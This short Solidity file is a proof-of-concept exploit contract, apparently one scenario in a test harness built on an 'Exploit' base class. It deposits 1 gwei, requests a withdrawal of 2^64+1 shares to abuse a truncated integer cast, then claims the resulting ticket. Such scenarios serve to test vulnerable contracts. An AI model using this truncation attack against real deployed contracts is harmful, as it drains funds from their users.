// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title 2^64 shares and one
/// @notice Owns one wei of shares and asks out with 2^64 more.
contract TruncatedCast is Exploit {
    uint256 private _ticket;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) {
            _deposit(1 gwei);
            _ticket = _request((1 << 64) + 1);
        }
        if (number == 2) queue.claim(_ticket, address(this));
    }
}
